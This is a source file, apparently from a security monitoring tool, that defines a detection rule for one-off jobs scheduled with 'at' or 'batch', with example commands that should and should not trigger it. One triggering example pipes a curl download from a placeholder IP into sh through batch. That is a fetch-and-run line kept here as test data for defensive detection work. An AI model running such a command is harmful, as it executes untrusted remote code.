import { commandRule } from "../../command-rule.js";
import { find, hasFlag } from "../../shell/look.js";

/** A command was handed to the scheduler to run once, later, outside of anybody's session. */
export const scriptRunByAt = commandRule({
  id: "script-run-by-at",
  alertType: "Picket_ScriptRunByAt",
  name: "Command scheduled once",
  severity: "Low",
  about: "A command was handed to the scheduler to run once, later, outside of anybody's session.",
  tactics: ["Execution", "Persistence"],
  techniques: ["T1053.002"],
  falsePositives: ["Administrators who plan a restart at night."],
  witness: ["at", "batch"],
  sees: (reading) =>
    find(
      reading,
      /^(?:at|batch)$/,
      (command) =>
        !hasFlag(command, "l", "d", "c", "V") &&
        (command.name === "batch" ||
          command.argv
            .slice(1)
            .some((word) => /^(?:now|\+?\d+|midnight|noon|teatime|-f|\d{1,2}:\d{2}|tomorrow)$/.test(word))),
    ),
  did: "scheduled a command to run once",
  because: "it runs later and outside of any session",
  fires: [
    "sh -c echo /tmp/x | at now + 1 minute",
    "at -f /tmp/job.sh now",
    "sh -c echo 'curl http://203.0.113.9/i|sh' | batch",
  ],
  silent: ["at -l", "atd -f", "atq", "cat /var/spool/at/x", "git log --format=%at now", "batchtool run"],
});
